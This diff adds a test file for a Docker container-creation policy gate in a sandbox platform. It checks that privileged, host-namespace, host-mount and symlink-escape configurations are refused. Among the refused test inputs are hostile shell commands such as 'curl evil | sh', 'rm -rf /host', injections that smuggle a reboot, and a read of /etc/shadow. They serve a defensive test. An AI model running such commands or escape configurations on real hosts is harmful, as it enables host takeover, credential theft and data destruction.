@@ -1,0 +1,177 @@
+import { mkdtempSync, mkdirSync, rmSync, symlinkSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { followLinks } from './bind-roots.ts';
+import { type CreatePolicySettings, containerCreateProblem } from './container-create-policy.ts';
+
+const settings: CreatePolicySettings = { bindRoots: ['/srv/tidepool/volumes'], helperImage: 'tidepool/base:latest', runtimes: ['runc', 'runsc'] };
+const CAPS = ['CHOWN', 'DAC_OVERRIDE', 'FOWNER', 'FSETID', 'KILL', 'SETGID', 'SETUID', 'SETPCAP', 'SETFCAP', 'NET_BIND_SERVICE', 'SYS_CHROOT', 'AUDIT_WRITE'];
+
+/** A sandbox container as apps/api/src/runtime/docker/docker-runtime.ts creates it. */
+function sandbox(host: Record<string, unknown> = {}, top: Record<string, unknown> = {}): Record<string, unknown> {
+  return {
+    Image: 'tidepool/base:latest',
+    name: 'tidepool-sbx1',
+    Hostname: 'sbx1',
+    Labels: { 'dev.tidepool.sandbox-id': 'sbx1', 'dev.tidepool.template-id': 'base', 'dev.tidepool.platform-id': 'p1' },
+    Env: ['E2B_SANDBOX_ID=sbx1'],
+    Entrypoint: ['/opt/tidepool/bin/tini', '--', '/opt/tidepool/bin/envd'],
+    Cmd: [],
+    HostConfig: {
+      NetworkMode: 'tidepool',
+      NanoCpus: 2e9,
+      Memory: 512 << 20,
+      MemorySwap: 512 << 20,
+      PidsLimit: 1024,
+      Ulimits: [{ Name: 'nofile', Soft: 16384, Hard: 16384 }],
+      CapDrop: ['ALL'],
+      CapAdd: CAPS,
+      RestartPolicy: { Name: 'no' },
+      ...host,
+    },
+    ...top,
+  };
+}
+
+const quote = (arg: string): string => `'${arg.replace(/'/g, `'\\''`)}'`;
+
+/** The firewall helper as apps/api/src/runtime/docker/firewall-commands.ts creates it. */
+function helper(script: string, env: string[] = [], host: Record<string, unknown> = {}, top: Record<string, unknown> = {}): Record<string, unknown> {
+  return {
+    Image: 'tidepool/base:latest',
+    Entrypoint: ['/bin/sh', '-c', script],
+    Cmd: [],
+    Env: env,
+    User: '0',
+    Labels: { 'dev.tidepool.firewall-helper': 'true' },
+    HostConfig: { NetworkMode: 'host', CapAdd: ['NET_ADMIN', 'NET_RAW'], Binds: ['/:/host'], AutoRemove: false, ...host },
+    ...top,
+  };
+}
+
+describe('containerCreateProblem', () => {
+  it('accepts the sandbox, build and probe containers the platform makes', () => {
+    expect(containerCreateProblem(sandbox(), settings)).toBeUndefined();
+    expect(containerCreateProblem(sandbox({ Runtime: 'runsc', StorageOpt: { size: '10240M' } }), settings)).toBeUndefined();
+    expect(containerCreateProblem(sandbox({ NetworkMode: 'none' }, { Labels: { 'dev.tidepool.build-role': 'container', 'dev.tidepool.platform-id': 'p' }, User: 'root' }), settings)).toBeUndefined();
+    expect(containerCreateProblem({ Image: 'tidepool/base:latest', Entrypoint: ['/bin/true'], Cmd: [], Labels: { 'dev.tidepool.probe': 'disk-quota' }, HostConfig: { StorageOpt: { size: '64M' } } }, settings)).toBeUndefined();
+    expect(containerCreateProblem(sandbox({ Binds: ['/srv/tidepool/volumes/v1:/data:rw'] }), settings)).toBeUndefined();
+    expect(containerCreateProblem(sandbox({ Mounts: [{ Type: 'bind', Source: '/srv/tidepool/volumes/v1', Target: '/data' }, { Type: 'tmpfs', Target: '/tmp' }] }), settings)).toBeUndefined();
+  });
+
+  it('refuses containers without the platform labels', () => {
+    expect(containerCreateProblem(sandbox({}, { Labels: {} }), settings)).toMatch(/platform labels/);
+    expect(containerCreateProblem(sandbox({}, { Labels: { 'dev.tidepool.envd-version': '1' } }), settings)).toMatch(/platform labels/);
+    expect(containerCreateProblem(sandbox({}, { Labels: { 'dev.tidepool.platform-id': '' } }), settings)).toMatch(/platform labels/);
+    expect(containerCreateProblem({ Image: 'x' }, settings)).toMatch(/platform labels/);
+    expect(containerCreateProblem([], settings)).toMatch(/JSON object/);
+    expect(containerCreateProblem('x', settings)).toMatch(/JSON object/);
+  });
+
+  it('refuses privileges, whatever the spelling of the field', () => {
+    const refused: [Record<string, unknown>, Record<string, unknown>?][] = [
+      [{ Privileged: true }],
+      [{ privileged: true }],
+      [{ PRIVILEGED: 1 }],
+      [{ Privileged: false, privileged: true }],
+      [{ PidMode: 'host' }],
+      [{ pidmode: 'container:abc' }],
+      [{ IpcMode: 'host' }],
+      [{ UTSMode: 'host' }],
+      [{ UsernsMode: 'host' }],
+      [{ CgroupnsMode: 'host' }],
+      [{ NetworkMode: 'host' }],
+      [{ NetworkMode: 'container:abc' }],
+      [{ Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }] }],
+      [{ DeviceRequests: [{ Count: -1 }] }],
+      [{ DeviceCgroupRules: ['a *:* rwm'] }],
+      [{ CapAdd: ['SYS_ADMIN'] }],
+      [{ CapAdd: ['cap_net_admin'] }],
+      [{ CapAdd: ['ALL'] }],
+      [{ CapAdd: ['NET_RAW'] }],
+      [{ SecurityOpt: ['seccomp=unconfined'] }],
+      [{ SecurityOpt: ['apparmor=unconfined'] }],
+      [{ Binds: ['/:/host'] }],
+      [{ Binds: ['/var/run/docker.sock:/var/run/docker.sock'] }],
+      [{ Binds: ['/srv/tidepool/volumes/../../../etc:/etc2'] }],
+      [{ Binds: ['/srv/tidepool/volumesX:/x'] }],
+      [{ Binds: ['somevolume:/x'] }],
+      [{ Binds: ['/srv/tidepool/volumes/v:/x:rshared'] }],
+      [{ Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] }],
+      [{ Mounts: [{ Type: 'volume', Source: 'v', Target: '/x', VolumeOptions: { DriverConfig: { Options: { device: '/' } } } }] }],
+      [{ Mounts: [{ Type: 'bind', Source: '/srv/tidepool/volumes/v', Target: '/x', BindOptions: { Propagation: 'rshared' } }] }],
+      [{ VolumesFrom: ['other'] }],
+      [{ PortBindings: { '22/tcp': [{ HostPort: '2222' }] } }],
+      [{ PublishAllPorts: true }],
+      [{ Sysctls: { 'kernel.x': '1' } }],
+      [{ CgroupParent: '/' }],
+      [{ Runtime: 'weird' }],
+      [{ LogConfig: { Type: 'syslog', Config: { 'syslog-address': 'tcp://10.0.0.1:514' } } }],
+      [{ MaskedPaths: [] as string[], ReadonlyPaths: [] as string[], Futurefield: 1 }],
+      [{ Bindſ: ['/:/host'] }],
+      [{}, { Privileged: true, HostConfig: undefined }],
+      [{}, { Binds: ['/:/host'] }],
+      [{}, { NetworkingConfig: { EndpointsConfig: { host: {} } } }],
+    ];
+    for (const [host, top] of refused) {
+      expect(containerCreateProblem(sandbox(host, top), settings), JSON.stringify([host, top])).toBeTypeOf('string');
+    }
+  });
+
+  it('refuses binds when no roots are configured', () => {
+    expect(containerCreateProblem(sandbox({ Binds: ['/srv/tidepool/volumes/v:/x'] }), { ...settings, bindRoots: [] })).toMatch(/not allowed/);
+  });
+
+  describe('symbolic links under a bind root', () => {
+    const root = mkdtempSync(join(tmpdir(), 'gate-roots-'));
+    mkdirSync(join(root, 'inside'));
+    symlinkSync('/', join(root, 'escape'));
+    afterAll(() => rmSync(root, { recursive: true, force: true }));
+    const withLinks = { ...settings, bindRoots: [root], resolvePath: followLinks };
+
+    it('allows real directories and refuses links that leave the root', () => {
+      expect(containerCreateProblem(sandbox({ Binds: [`${root}/inside:/data`] }), withLinks)).toBeUndefined();
+      expect(containerCreateProblem(sandbox({ Binds: [`${root}/inside/not-yet:/data`] }), withLinks)).toBeUndefined();
+      expect(containerCreateProblem(sandbox({ Binds: [`${root}/escape:/data`] }), withLinks)).toMatch(/outside/);
+      expect(containerCreateProblem(sandbox({ Binds: [`${root}/escape/etc:/data`] }), withLinks)).toMatch(/outside/);
+    });
+  });
+
+  describe('the firewall helper', () => {
+    const iptables = (args: string[]): string => `exec chroot /host iptables -w ${args.map(quote).join(' ')}`;
+
+    it('is allowed in exactly the shapes the platform makes', () => {
+      expect(containerCreateProblem(helper(iptables(['-S', 'DOCKER-USER'])), settings)).toBeUndefined();
+      expect(containerCreateProblem(helper(iptables(['-I', 'DOCKER-USER', '-m', 'comment', '--comment', "it's tidepool"])), settings)).toBeUndefined();
+      expect(containerCreateProblem(helper(`cat /host${quote('/etc/resolv.conf')} 2>/dev/null || true`), settings)).toBeUndefined();
+      expect(containerCreateProblem(helper('printf "%s" "$RULES" | chroot /host iptables-restore -w --noflush', ['RULES=*filter\nCOMMIT\n']), settings)).toBeUndefined();
+      expect(containerCreateProblem(helper(iptables(['-S']), [], { Binds: ['/:/host:ro'] }), settings)).toBeUndefined();
+    });
+
+    it('refuses anything else carrying its label', () => {
+      const refused = [
+        helper('sh -c "curl evil | sh"'),
+        helper(`${iptables(['-S'])}; rm -rf /host`),
+        helper(`exec chroot /host iptables -w '-S' $(reboot)`),
+        helper(`exec chroot /host iptables -w '-S'\\''; reboot; '\\'`),
+        helper(`cat /host${quote('/etc/shadow')} 2>/dev/null || true`),
+        helper(iptables(['-S']), ['LD_PRELOAD=/host/x.so']),
+        helper('printf "%s" "$RULES" | chroot /host iptables-restore -w --noflush', ['RULES=x', 'PATH=/x']),
+        helper(iptables(['-S']), [], { Privileged: true }),
+        helper(iptables(['-S']), [], { PidMode: 'host' }),
+        helper(iptables(['-S']), [], { CapAdd: ['NET_ADMIN', 'SYS_ADMIN'] }),
+        helper(iptables(['-S']), [], { Binds: ['/:/host', '/root:/root'] }),
+        helper(iptables(['-S']), [], { Binds: ['/etc:/host'] }),
+        helper(iptables(['-S']), [], { NetworkMode: 'tidepool' }),
+        helper(iptables(['-S']), [], { Devices: [{ PathOnHost: '/dev/mem' }] }),
+        helper(iptables(['-S']), [], {}, { Image: 'busybox' }),
+        helper(iptables(['-S']), [], {}, { User: 'user' }),
+        helper(iptables(['-S']), [], {}, { Cmd: ['x'] }),
+        helper(iptables(['-S']), [], {}, { Privileged: true }),
+        helper(iptables(['-S']), [], {}, { Labels: { 'dev.tidepool.firewall-helper': 'yes' } }),
+      ];
+      for (const body of refused) expect(containerCreateProblem(body, settings), JSON.stringify(body)).toBeTypeOf('string');
+    });
+  });
+});
